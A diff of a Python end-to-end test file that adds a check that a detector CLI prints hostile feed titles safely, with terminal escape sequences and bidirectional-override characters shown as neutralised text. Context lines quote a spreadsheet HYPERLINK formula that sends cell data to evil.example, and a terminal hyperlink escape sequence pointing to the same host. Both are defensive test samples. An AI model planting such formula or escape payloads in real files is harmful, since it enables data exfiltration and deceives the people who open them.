@@ -19,14 +19,16 @@ from typing import Any
 
 import pandas as pd
 import pytest
+from click.testing import CliRunner
 from playwright.sync_api import Dialog, Page, sync_playwright
 
+from detector.cli import main
 from detector.config import Config
 from detector.html_report import SCRIPT
 from detector.output_safety import FORMULA_TRIGGERS, neutralise_formula
 from pipelines.daily import run_daily
 from tests.conftest import ROOT
-from tests.hostile import MARKUP, OUTLET, REJECTED_ID, RLO, hostile_feed
+from tests.hostile import MARKUP, OUTLET, REJECTED_ID, RLO, TERMINAL, hostile_feed
 
 pytestmark = pytest.mark.e2e
 
@@ -147,6 +149,21 @@ def test_libreoffice_opens_the_csvs_without_formulas(
     assert any(': =HYPERLINK("http://evil.example/?x="&A1,"click")' in line for line in formulas), (
         theirs.stdout
     )
+
+
+def test_show_prints_hostile_text_as_text(hostile_run: tuple[Path, pd.DataFrame]) -> None:
+    """``detector show`` in a terminal: no escape sequence from the data reaches it, and rich
+    does not read a title's ``[/]`` as markup (it raised MarkupError)."""
+    out, _ = hostile_run
+    members = pd.read_parquet(out / "members.parquet")
+    nid = members.loc[members["title"].str.contains(TERMINAL, regex=False), "narrative_id"].iloc[0]
+    result = CliRunner().invoke(
+        main, ["show", nid, "--store", str(out / "detector.duckdb")], env={"COLUMNS": "400"}
+    )
+    assert result.exit_code == 0, result.output
+    assert "\x1b" not in result.output
+    assert "[/] ⟦U+001B⟧]8;;https://evil.example⟦U+0007⟧click" in result.output
+    assert "⟦U+202E⟧" in result.output
 
 
 # ---- report.html in the browser -----------------------------------------------------------------
